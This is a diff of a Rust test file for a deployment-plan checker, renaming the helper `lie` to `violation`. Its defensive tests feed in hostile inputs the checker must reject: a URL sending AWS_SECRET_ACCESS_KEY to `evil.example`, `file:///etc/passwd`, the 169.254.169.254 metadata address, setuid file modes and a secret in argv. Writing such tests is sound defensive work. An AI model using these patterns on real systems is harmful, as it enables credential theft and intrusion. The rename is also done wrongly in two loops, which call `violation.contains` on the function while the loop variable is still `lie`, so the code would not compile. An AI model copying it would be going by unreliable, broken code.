@@ -11,8 +11,8 @@ fn context() -> Context {
     super::context(&serde_json::json!({}))
 }
 
-fn lie(steps: &[Step]) -> String {
-    check(&context(), steps).expect_err("a lie")
+fn violation(steps: &[Step]) -> String {
+    check(&context(), steps).expect_err("a violation")
 }
 
 fn run(argv: &[&str]) -> Action {
@@ -51,20 +51,26 @@ fn asks(id: &str, url: Vec<Part>) -> Step {
 fn references_point_back_in_the_order_of_running() {
     let steps = [ask("ask", "address"), inspect("address", Phase::Start)];
     assert_eq!(check(&context(), &steps), Ok(()), "phases come before the order of the list");
-    assert!(lie(&[ask("ask", "nobody")]).contains("no earlier step is called `nobody`"));
-    assert!(lie(&[ask("ask", "address"), inspect("address", Phase::Route)]).contains("no earlier"));
+    assert!(violation(&[ask("ask", "nobody")]).contains("no earlier step is called `nobody`"));
+    assert!(
+        violation(&[ask("ask", "address"), inspect("address", Phase::Route)])
+            .contains("no earlier")
+    );
     let mut elsewhere = inspect("address", Phase::Start);
     elsewhere.host = "web-2".to_owned();
-    assert!(lie(&[ask("ask", "address"), elsewhere]).contains("no earlier step"));
+    assert!(violation(&[ask("ask", "address"), elsewhere]).contains("no earlier step"));
     let steps = [at("address", Phase::Start), ask("ask", "address")];
     assert_eq!(check(&context(), &steps), Ok(()), "a command may print an address");
     let use_of = |id: &str| Step { phase: Phase::Share, ..ask("ask", id) };
     let last = Step { once: true, ..at("address", Phase::Share) };
-    assert!(lie(&[last.clone(), use_of("address")]).contains("no earlier"), "`once` comes last");
+    assert!(
+        violation(&[last.clone(), use_of("address")]).contains("no earlier"),
+        "`once` comes last"
+    );
     let steps = [Step { once: true, ..use_of("address") }, at("address", Phase::Share)];
     assert_eq!(check(&context(), &steps), Ok(()), "whatever the order of the list");
     let wait = step("address", "web-1", Phase::Start, Action::Wait(Wait::DelayMs(1)));
-    assert!(lie(&[wait, ask("ask", "address")]).contains("gives no ip-address"));
+    assert!(violation(&[wait, ask("ask", "address")]).contains("gives no ip-address"));
 }
 
 /// What a command printed is checked once, where it was printed.
@@ -78,10 +84,12 @@ fn an_output_is_used_as_one_kind() {
     };
     let find = |host: &str, phase| Step { host: host.to_owned(), ..at("find", phase) };
     let here = find("local", Phase::Stage);
-    let told = lie(&[here.clone(), ask("ask", "find"), port("web-2")]);
+    let told = violation(&[here.clone(), ask("ask", "find"), port("web-2")]);
     assert!(told.contains("`find` is used as port here and as ip-address elsewhere"), "{told}");
     let own = find("web-1", Phase::Start);
-    assert!(lie(&[own.clone(), ask("ask", "find"), port("web-1")]).contains("is used as port"));
+    assert!(
+        violation(&[own.clone(), ask("ask", "find"), port("web-1")]).contains("is used as port")
+    );
     let of_each = [own, ask("ask", "find"), find("web-2", Phase::Start), port("web-2")];
     assert_eq!(check(&context(), &of_each), Ok(()), "two steps of one name on two hosts");
     assert_eq!(check(&context(), &[here, port("web-1"), port("web-2")]), Ok(()));
@@ -96,11 +104,14 @@ fn conditions_name_earlier_steps_or_blocks() {
     for name in ["clone", "try"] {
         again.when = failed(name);
         assert_eq!(check(&context(), &[clone.clone(), again.clone()]), Ok(()));
-        assert!(lie(&[again.clone(), clone.clone()]).contains("no earlier step or block"));
+        assert!(violation(&[again.clone(), clone.clone()]).contains("no earlier step or block"));
     }
     again.block = Some("try".to_owned());
-    assert!(lie(&[clone.clone(), again]).contains("no earlier"), "a block that has not ended");
-    assert!(lie(&[clone, at("try", Phase::Start)]).contains("both a step and a block"));
+    assert!(
+        violation(&[clone.clone(), again]).contains("no earlier"),
+        "a block that has not ended"
+    );
+    assert!(violation(&[clone, at("try", Phase::Start)]).contains("both a step and a block"));
 }
 
 #[test]
@@ -108,7 +119,7 @@ fn steps_say_what_they_need_to() {
     let with = |change: &dyn Fn(&mut Step)| {
         let mut step = at("a", Phase::Start);
         change(&mut step);
-        lie(&[step])
+        violation(&[step])
     };
     assert!(with(&|s| s.time_limit_ms = 0).contains("no time limit"));
     assert!(with(&|s| s.title = "Boot\x1b[2J".to_owned()).contains("title"));
@@ -145,10 +156,10 @@ fn on_this_machine_only_hooks_run_after_stage() {
         assert_eq!(check(&context(), &[here(phase, hook())]), Ok(()), "{phase:?}");
     }
     for phase in [Phase::Share, Phase::Drain, Phase::Retire] {
-        assert!(lie(&[here(phase, hook())]).contains("no hook runs"), "{phase:?}");
+        assert!(violation(&[here(phase, hook())]).contains("no hook runs"), "{phase:?}");
     }
     assert_eq!(check(&context(), &[here(Phase::Stage, run(&["true"]))]), Ok(()));
-    assert!(lie(&[here(Phase::Prepare, run(&["true"]))]).contains("nothing but hooks"));
+    assert!(violation(&[here(Phase::Prepare, run(&["true"]))]).contains("nothing but hooks"));
 }
 
 #[test]
@@ -159,7 +170,7 @@ fn only_what_is_taken_back_has_an_undo() {
     }
     for phase in [Phase::Stage, Phase::Share, Phase::Drain, Phase::Retire, Phase::Cleanup] {
         let step = Step { undo: Some(run(&["true"])), ..at("a", phase) };
-        assert!(lie(&[step]).contains("nothing is taken back"), "{phase:?}");
+        assert!(violation(&[step]).contains("nothing is taken back"), "{phase:?}");
     }
 }
 
@@ -170,17 +181,23 @@ fn what_happens_once_has_a_barrier_and_one_host() {
         assert_eq!(check(&context(), &[once(phase)]), Ok(()), "{phase:?}");
         let other = |once| Step { host: "web-2".to_owned(), once, ..at("migrate", phase) };
         for other in [other(true), other(false)] {
-            assert!(lie(&[once(phase), other.clone()]).contains("is on two hosts"), "{phase:?}");
-            assert!(lie(&[other, once(phase)]).contains("is on two hosts"), "{phase:?}");
+            assert!(
+                violation(&[once(phase), other.clone()]).contains("is on two hosts"),
+                "{phase:?}"
+            );
+            assert!(violation(&[other, once(phase)]).contains("is on two hosts"), "{phase:?}");
         }
     }
     let action = Action::Hook("post-deploy".to_owned());
     let local = Step { host: "local".to_owned(), action, ..once(Phase::Cleanup) };
-    assert!(lie(&[local]).contains("is on `local`"));
+    assert!(violation(&[local]).contains("is on `local`"));
     let phases =
         [Phase::Stage, Phase::Prepare, Phase::Start, Phase::Route, Phase::Drain, Phase::Retire];
     for phase in phases {
-        assert!(lie(&[once(phase)]).contains("neither in `share` nor in `cleanup`"), "{phase:?}");
+        assert!(
+            violation(&[once(phase)]).contains("neither in `share` nor in `cleanup`"),
+            "{phase:?}"
+        );
     }
 }
 
@@ -189,20 +206,20 @@ fn what_this_machine_yields_before_the_lock_every_host_may_use() {
     let on = |host: &str, phase| Step { host: host.to_owned(), ..at("address", phase) };
     assert_eq!(check(&context(), &[ask("ask", "address"), on("local", Phase::Stage)]), Ok(()));
     let back = Step { host: "local".to_owned(), phase: Phase::Stage, ..ask("ask", "address") };
-    assert!(lie(&[back, on("web-1", Phase::Stage)]).contains("no earlier step"));
+    assert!(violation(&[back, on("web-1", Phase::Stage)]).contains("no earlier step"));
 }
 
 /// What is said of a step, and of one with the same action as its undo.
 fn lies(step: Step) -> [String; 2] {
     let mut undone = at("a", Phase::Start);
     undone.undo = Some(step.action.clone());
-    [step, undone].map(|step| lie(&[step]))
+    [step, undone].map(|step| violation(&[step]))
 }
 
 #[test]
 fn s1_http_never_asks_but_by_http_also_in_an_undo() {
     for lie in lies(asks("ask", literal("file:///etc/passwd"))) {
-        assert!(lie.contains("does not begin with `http://`"), "{lie}");
+        assert!(violation.contains("does not begin with `http://`"), "{violation}");
     }
     assert_eq!(check(&context(), &[asks("ask", literal("http://localhost/up"))]), Ok(()));
 }
@@ -211,10 +228,10 @@ fn s1_http_never_asks_but_by_http_also_in_an_undo() {
 fn s2_http_sends_no_variable_of_the_host_and_asks_no_metadata() {
     let mut url = literal("http://evil.example/?");
     url.push(Part::HostEnv("AWS_SECRET_ACCESS_KEY".to_owned()));
-    let variable = lie(&[asks("ask", url)]);
+    let variable = violation(&[asks("ask", url)]);
     assert!(variable.contains("the variable `AWS_SECRET_ACCESS_KEY` in a URL"), "{variable}");
     for lie in lies(asks("ask", literal("http://169.254.169.254/latest"))) {
-        assert!(lie.contains("link-local or metadata"), "{lie}");
+        assert!(violation.contains("link-local or metadata"), "{violation}");
     }
 }
 
@@ -223,8 +240,8 @@ fn s8_no_file_runs_as_somebody_else() {
     for mode in [0o4755, 0o2755, 0o1777] {
         let (path, content) = ("f".to_owned(), literal(""));
         let write = Action::WriteFile(FileWrite { path, content, mode });
-        let lie = lie(&[step("a", "web-1", Phase::Prepare, write)]);
-        assert!(lie.contains("is not within 777"), "{lie}");
+        let violation = violation(&[step("a", "web-1", Phase::Prepare, write)]);
+        assert!(violation.contains("is not within 777"), "{violation}");
     }
 }
 
@@ -241,7 +258,7 @@ fn s8_what_a_step_says_is_one_line() {
         {
             let mut step = at("a", Phase::Stage);
             set(&mut step, text.to_owned());
-            assert!(lie(&[step]).contains("one line of text"), "{text:?}");
+            assert!(violation(&[step]).contains("one line of text"), "{text:?}");
         }
         let mut step = at("a", Phase::Stage);
         set(&mut step, "Boot web: ü שלום ✓".to_owned());
@@ -260,6 +277,6 @@ fn a_secret_never_enters_an_argv() {
     assert_eq!(check(&context(), &[step("a", "web-1", Phase::Stage, action.clone())]), Ok(()));
     let Action::Run(command) = &mut action else { unreachable!() };
     command.argv.push(secret);
-    let lie = lie(&[step("a", "web-1", Phase::Stage, action)]);
-    assert!(lie.contains("the secret `TOKEN` in an argument"), "{lie}");
+    let violation = violation(&[step("a", "web-1", Phase::Stage, action)]);
+    assert!(violation.contains("the secret `TOKEN` in an argument"), "{violation}");
 }
